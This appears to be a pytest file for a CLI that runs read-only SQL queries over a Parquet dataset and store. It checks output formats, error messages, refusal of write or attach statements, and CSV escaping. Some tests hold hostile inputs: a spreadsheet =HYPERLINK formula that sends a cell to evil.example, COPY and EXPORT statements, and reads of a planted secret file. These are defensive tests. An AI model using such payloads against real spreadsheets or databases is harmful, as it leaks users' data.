"""`crosswire query "SQL"`: DuckDB views over the Parquet dataset and the store, the three output
formats, clear errors for bad SQL, and a read-only connection (no writes, attaches or other files)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

import crosswire
from crosswire.cli import app
from crosswire.query import run_query
from crosswire.store import open_store

EXAMPLES = Path(__file__).resolve().parents[1] / "examples"
FILES = [
    "harbor-courier-stockholm-talks.txt",
    "meridian-stockholm-talks.html",
    "capital-times-cattle-wto.html",
]


@pytest.fixture(scope="module")
def run(tmp_path_factory) -> Path:
    tmp = tmp_path_factory.mktemp("query")
    paths = [EXAMPLES / name for name in FILES]
    with crosswire.analyze(
        paths, db=str(tmp / "store.db"), parquet=tmp / "pq", sources=EXAMPLES / "sources.toml"
    ):
        pass
    return tmp


def _query(run: Path, sql: str, *options: str) -> tuple[int, str]:
    args = ["query", sql, "--parquet", str(run / "pq"), "--db", str(run / "store.db"), *options]
    result = CliRunner().invoke(app, args, env={"COLUMNS": "200"})
    return result.exit_code, result.output


def _csv(output: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(output)))


def _store_quotes(run: Path) -> dict[str, int]:
    with open_store(str(run / "store.db")) as store:
        articles = {a.id: a.outlet for a in store.iter_articles()}
        counts: dict[str, int] = {}
        for analysis in store.iter_analyses():
            outlet = articles[analysis.article_id]
            counts[outlet] = counts.get(outlet, 0) + len(analysis.quotes)
    return counts


def test_views_over_the_parquet_dataset(run):
    code, output = _query(
        run, "SELECT outlet, count(*) AS n FROM quotes GROUP BY outlet ORDER BY outlet", "--format", "csv"
    )
    assert code == 0, output
    assert {r["outlet"]: int(r["n"]) for r in _csv(output)} == _store_quotes(run)
    code, output = _query(
        run, "SELECT DISTINCT month, outlet_slug FROM articles ORDER BY 2", "--format", "json"
    )
    assert code == 0, output
    rows = json.loads(output)
    assert {r["outlet_slug"] for r in rows} == {"the-harbor-courier", "meridian-wire", "capital-times-online"}
    assert all(len(r["month"]) == 7 for r in rows)
    for view in ("actors", "events", "stories"):
        code, output = _query(run, f"SELECT count(*) AS n FROM {view}", "--format", "csv")
        assert code == 0 and int(_csv(output)[0]["n"]) > 0, (view, output)


def test_parquet_joined_with_the_store(run):
    sql = (
        "SELECT a.outlet, count(*) AS n FROM articles a JOIN store.quotes q ON q.article_id = a.id "
        "WHERE json_extract_string(q.payload, '$.kind') IN ('direct', 'indirect', 'mixed') GROUP BY 1"
    )
    code, output = _query(run, sql, "--format", "csv")
    assert code == 0, output
    assert {r["outlet"]: int(r["n"]) for r in _csv(output)} == _store_quotes(run)


def test_store_alone_gives_the_plain_names(run):
    result = CliRunner().invoke(
        app, ["query", "SELECT count(*) AS n, min(word_count) > 0 AS ok FROM articles", "--db",
              str(run / "store.db"), "--format", "json"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert json.loads(result.output) == [{"n": 3, "ok": True}]


def test_table_format(run):
    code, output = _query(run, "SELECT outlet, title FROM articles ORDER BY outlet")
    assert code == 0, output
    assert "Meridian Wire" in output and "3 rows" in output


def test_run_query_streams_rows(run):
    with run_query("SELECT id FROM articles ORDER BY id", parquet=run / "pq") as (columns, rows):
        assert columns == ["id"]
        assert len(list(rows)) == 3


@pytest.mark.parametrize(
    ("sql", "message"),
    [
        ("SELEC 1", "Parser Error"),
        ("SELECT * FROM no_such_table", "no_such_table"),
        ("SELECT 1; SELECT 2", "exactly one SQL statement"),
        ("SELECT nope FROM articles", "nope"),
    ],
)
def test_bad_sql_is_a_clear_error(run, sql, message):
    code, output = _query(run, sql)
    assert code == 2, output
    assert "error: query failed" in output or "error:" in output
    assert message in output and "Traceback" not in output


@pytest.mark.parametrize(
    "sql",
    [
        "COPY (SELECT * FROM articles) TO '{dir}/stolen.csv'",
        "ATTACH '{dir}/other.db' AS other",
        "CREATE TABLE t AS SELECT 1",
        "INSERT INTO articles (id) VALUES ('x')",
        "INSTALL sqlite",
        "SET enable_external_access = true",
        "EXPORT DATABASE '{dir}/dump'",
    ],
)
def test_statements_that_write_or_attach_are_refused(run, tmp_path, sql):
    code, output = _query(run, sql.format(dir=tmp_path))
    assert code == 2, output
    assert "only SELECT queries are allowed" in output
    assert list(tmp_path.iterdir()) == []  # nothing was written


def test_a_select_cannot_read_other_files(run, tmp_path):
    secret = tmp_path / "secret.csv"
    secret.write_text("password\nhunter2\n")
    for sql in (f"SELECT * FROM read_csv('{secret}')", f"SELECT * FROM read_text('{secret}')",
                f"SELECT * FROM '{run / 'store.db'}'"):  # fmt: skip
        code, output = _query(run, sql)
        assert code == 2 and "hunter2" not in output, output
        assert "Permission Error" in output or "disabled" in output, output


def test_missing_inputs(run, tmp_path):
    result = CliRunner().invoke(app, ["query", "SELECT 1", "--parquet", str(tmp_path / "none")])
    assert result.exit_code == 2 and "not found" in result.output
    (tmp_path / "plain").mkdir()
    result = CliRunner().invoke(app, ["query", "SELECT 1", "--parquet", str(tmp_path / "plain")])
    assert result.exit_code == 2 and "not a crosswire Parquet dataset" in result.output
    result = CliRunner().invoke(app, ["query", "SELECT 1", "--db", str(tmp_path / "absent.db")])
    assert result.exit_code == 2 and "no store at" in result.output and "crosswire analyze" in result.output
    assert not (tmp_path / "absent.db").exists()  # a query never creates a store
    result = CliRunner().invoke(app, ["query", "SELECT 1", "--parquet", str(run / "pq"), "--format", "xml"])
    assert result.exit_code == 2 and "unknown format" in result.output


def test_a_table_without_rows_is_still_there(run, tmp_path):
    import shutil

    copy = tmp_path / "pq"
    shutil.copytree(run / "pq", copy)
    shutil.rmtree(copy / "events")  # as a corpus with no coded events would leave it
    result = CliRunner().invoke(
        app,
        [
            "query",
            "SELECT count(*) AS n FROM events WHERE cameo = '04'",
            "--parquet",
            str(copy),
            "--format",
            "csv",
        ],
    )
    assert result.exit_code == 0, result.output
    assert _csv(result.output) == [{"n": "0"}]


def test_a_postgresql_store_is_read_through_sqlalchemy():
    from store_support import pg_schema_url

    with pg_schema_url() as url:
        crosswire.api.ingest(
            [EXAMPLES / FILES[0], EXAMPLES / FILES[1]], db=url, sources=EXAMPLES / "sources.toml"
        )
        sql = "SELECT outlet, json_array_length(authors) >= 0 AS listed FROM store.articles ORDER BY outlet"
        with run_query(sql, db=url) as (columns, rows):
            assert columns == ["outlet", "listed"]
            assert list(rows) == [("Meridian Wire", True), ("The Harbor Courier", True)]


def test_query_csv_never_hands_a_spreadsheet_a_formula(tmp_path):
    # Issue #18 item 6: every CSV crosswire writes, `query --format csv` included. A title or outlet
    # "=HYPERLINK(...)" would run when the CSV is opened; numbers keep their sign.
    from crosswire.model import Article

    body = "Envoys from both countries met in Stockholm on Monday and agreed to meet again next week."
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    db = str(tmp_path / "formula.db")
    with open_store(db) as store:
        store.save_articles([Article(text=body, title=formula, outlet="@Outlet", url="https://a.example/1")])
    sql = "SELECT title, outlet, -2.5 AS score, '+1' AS plus, 'plain' AS word FROM articles"
    result = CliRunner().invoke(app, ["query", sql, "--db", db, "--format", "csv"])
    assert result.exit_code == 0, result.output
    [row] = _csv(result.output)
    assert row == {
        "title": "'" + formula,
        "outlet": "'@Outlet",
        "score": "-2.5",
        "plus": "'+1",
        "word": "plain",
    }
